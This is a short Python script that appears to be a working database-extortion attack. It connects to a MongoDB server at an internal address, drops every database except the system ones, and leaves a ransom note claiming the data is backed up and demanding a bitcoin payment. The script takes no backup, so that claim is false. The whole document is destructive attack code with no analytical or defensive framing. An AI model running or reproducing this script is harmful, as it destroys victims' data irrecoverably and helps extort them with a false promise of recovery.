import pymongo, pymysql
c = pymongo.MongoClient("mongodb://10.20.0.8:27017")
for name in c.list_database_names():
    if name not in ("admin", "local", "config"):
        c.drop_database(name)
c["READ_ME"]["note"].insert_one({"text": "Your data is backed up. Pay 0.02 BTC to bc1qxy..."})
